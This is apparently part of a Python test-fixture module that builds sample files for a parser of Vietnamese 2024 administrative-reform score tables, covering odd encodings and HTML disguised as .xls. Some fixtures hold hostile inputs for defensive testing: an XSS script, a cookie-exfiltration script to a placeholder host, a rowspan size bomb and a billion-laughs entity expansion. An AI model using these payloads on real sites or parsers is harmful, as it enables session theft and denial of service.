    return Case("PAR_2024_utf16.csv", _units_csv("\t").encode("utf-16"), Read())


@case
def windows_1258_csv() -> Case:
    """As Windows writes Vietnamese: letters like ơ, ư, ê whole, tones as combining marks."""
    data = b"".join(_cp1258(ch) for ch in _units_csv())
    return Case("PAR_2024_1258.csv", data, Read())


_TONES = "\u0300\u0301\u0303\u0309\u0323"


def _cp1258(ch: str) -> bytes:
    parts = unicodedata.normalize("NFD", ch)
    tones = "".join(m for m in parts if m in _TONES)
    letter = unicodedata.normalize("NFC", "".join(m for m in parts if m not in _TONES))
    return letter.encode("cp1258") + tones.encode("cp1258")


@case
def mac_line_endings_csv() -> Case:
    """Old Excel for Mac ends lines with a lone carriage return."""
    return Case("PAR_2024_mac.csv", _units_csv().replace("\n", "\r").encode(), Read())


@case
def semicolon_csv() -> Case:
    return Case("PAR_2024_champhay.csv", _units_csv().encode(), Read())


# HTML saved as .xls


def _html(body: str, head: str = "") -> bytes:
    return f"<html><head><meta charset='utf-8'>{head}</head><body>{body}</body></html>".encode()


_HTML_TABLE = ("<table><tr><td>KẾT QUẢ CHỈ SỐ CẢI CÁCH HÀNH CHÍNH NĂM 2024</td></tr>"
               "<tr><th>STT</th><th>Tên đơn vị</th><th>Tổng điểm</th></tr>"
               "<tr><td>1</td><td>Phường Hàng Bạc<script>alert('xss')</script></td><td>91,43</td></tr>"
               "<tr><td>2</td><td>Phường Hàng Đào</td><td>88,5</td></tr>"
               "<tr><td>3</td><td>Phường Hàng Bồ</td><td>80</td></tr></table>")


@case
def html_with_script() -> Case:
    data = _html(_HTML_TABLE, "<script>document.location='http://x.invalid/'+document.cookie</script>")
    return Case("PAR_2024_web.xls", data, Read(names=("Phường Hàng Bạc", "Phường Hàng Đào", "Phường Hàng Bồ")))


@case
def html_bad_spans() -> Case:
    body = ('<table><tr><td rowspan="abc" colspan="99999999">KẾT QUẢ 2024</td></tr>'
            "<tr><td>1</td><td>Phường Hàng Bạc</td><td>91,43</td></tr></table>")
    return Case("PAR_2024_span.xls", _html(body), over("trang 'Table1': có 99999999 cột",
                                                       "sheet 'Table1': 99999999 columns", "1000 cột", "1000 columns"))


@case
def html_rowspan_bomb() -> Case:
    body = ('<table>' + '<tr><td rowspan="65534" colspan="1000">x</td></tr>' * 20 + "</table>")
    return Case("PAR_2024_spanbomb.xls", _html(body),
                over("65534 dòng × 1000 cột = 65534000 ô", "65534 rows × 1000 columns = 65534000 cells",
                     "6000000 ô", "6000000 cells"))


@case
def html_billion_laughs() -> Case:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    data = (f'<?xml version="1.0"?><!DOCTYPE html [{entities}]><html><body><table><tr><td>&a9;</td>'
            "<td>1</td></tr></table></body></html>").encode()
    return Case("PAR_2024_laughs.xls", data, Refused(r"PAR_2024_laughs\.xls", r"PAR_2024_laughs\.xls"))


@case
def html_deep_nesting() -> Case:
    """Deeper than libxml2 goes (256): the table below is lost, and the file refused."""
    body = "<div>" * 50_000 + _HTML_TABLE + "</div>" * 50_000
    return Case("PAR_2024_sau.xls", _html(body), Refused(r"'PAR_2024_sau\.xls' \(no <table>\)",
                                                       r"'PAR_2024_sau\.xls' \(no <table>\)"))


def build(name: str) -> Case:
    """The case called ``name``."""
    return CASES[name]()
